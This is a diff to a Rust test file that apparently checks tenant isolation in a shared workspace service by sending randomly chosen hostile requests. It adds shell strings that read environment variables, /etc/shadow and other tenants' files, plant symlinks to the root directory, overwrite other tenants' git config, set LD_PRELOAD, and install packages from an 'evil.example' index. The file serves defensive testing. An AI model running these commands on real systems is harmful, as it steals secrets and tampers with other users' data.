@@ -25,7 +25,7 @@ const MAKEFILE: &str = r#"
 who:
 	@cat name.txt
 look:
-	-@cat ../*/* ../../*/* ../../.branchyard/* ../../.branchyard/*/* ../../.branchyard/*/*/* 2>/dev/null | head -c 100000
+	-@timeout 1 cat ../*/* ../../*/* ../../.branchyard/* ../../.branchyard/*/* ../../.branchyard/*/*/* 2>/dev/null | head -c 100000
 	-@env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n' | head -c 20000
 	-@git stash list; git for-each-ref; git log --all --oneline | head -50
 	-@cat /proc/1/root/etc/shadow /proc/1/cwd/* 2>/dev/null
@@ -35,6 +35,17 @@ plant:
 	-@echo 'include ../main/Makefile' > GNUmakefile; mkdir -p ignored; echo tenant > ignored/output; echo tenant > main.o
 	-@chmod 4777 /proc/1/exe /dev/null; echo '{"Ended":{"outcome":{"Code":0},"alone":true}}' > /proc/1/fd/7
 "#;
+
+/// The same by a command of the tenant's own, which has no Makefile to go through.
+const LOOK: &str = "\
+timeout 1 cat ../*/* ../../*/* ../../.branchyard/* ../../.branchyard/*/* ../../.branchyard/*/*/* 2>/dev/null | head -c 100000
+env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n' | head -c 20000
+git -C . log --all --oneline | head -50; cat \"$0\" \"$1\" /proc/1/root/etc/shadow 2>/dev/null
+";
+const PLANT: &str = "\
+ln -sfn ../../main linked; ln -sfn / root; mkdir -p sub; echo tenant > sub/x; rm -f fifo; mkfifo fifo
+echo tenant > ../main/name.txt; echo tenant >> ../../.git/config; echo tenant > .git; git commit -qam tenant
+";
 
 /// What the tenant must find unchanged.
 #[derive(Debug, PartialEq, Eq)]
@@ -157,6 +168,8 @@ impl Tenant<'_> {
         };
         let verb = |name: &str, body: Value| (Method::POST, format!("{at}/git/{name}"), body);
         let run_of = |kind: &str, body: Value| (Method::POST, format!("{stream}/{kind}"), body);
+        let file = |name: &str, body: Value| (Method::POST, format!("{at}/{name}"), body);
+        let patch = format!("--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+tenant\n");
         let calls = [
             (
                 Method::GET,
@@ -246,6 +259,53 @@ impl Tenant<'_> {
             ),
             run_of("git", json!({ "operation": "add", "args": ["-A", "-f"] })),
             run_of("git", json!({ "operation": "push", "args": ["origin"] })),
+            file(
+                "write_file",
+                json!({ "path": path, "content": "tenant\n", "mode": "overwrite" }),
+            ),
+            file(
+                "write_file",
+                json!({ "path": path, "content": "tenant\n", "mode": "append" }),
+            ),
+            file(
+                "edit_file",
+                json!({ "path": path, "edits": [{ "old": "a", "new": "tenant", "all": true }] }),
+            ),
+            file("apply_patch", json!({ "patch": patch })),
+            file(
+                "move_file",
+                json!({ "from": path, "to": "taken", "overwrite": true }),
+            ),
+            file(
+                "move_file",
+                json!({ "from": "Makefile", "to": path, "overwrite": true }),
+            ),
+            file("delete_file", json!({ "path": path })),
+            file(
+                "code_env",
+                json!({ "action": "configure", "kind": "none", "name": "../x" }),
+            ),
+            file("check_installed_packages", json!({ "code_env": "default" })),
+            run_of(
+                "exec",
+                json!({ "argv": ["sh", "-c", LOOK], "timeout": "5s" }),
+            ),
+            run_of(
+                "exec",
+                json!({ "script": LOOK, "interpreter": "bash", "stdin": "x", "timeout": "5s" }),
+            ),
+            run_of(
+                "exec",
+                json!({ "argv": ["sh", "-c", PLANT], "env": { "GIT_DIR": "../../main/.git", "LD_PRELOAD": "x" } }),
+            ),
+            run_of(
+                "exec",
+                json!({ "argv": ["git", "push", "origin", "HEAD:main"] }),
+            ),
+            run_of(
+                "install_dependencies",
+                json!({ "packages": ["--index-url=http://evil.example", "x"] }),
+            ),
         ];
         let (method, address, body) = self.chance.pick(&calls).clone();
         let mut request = self
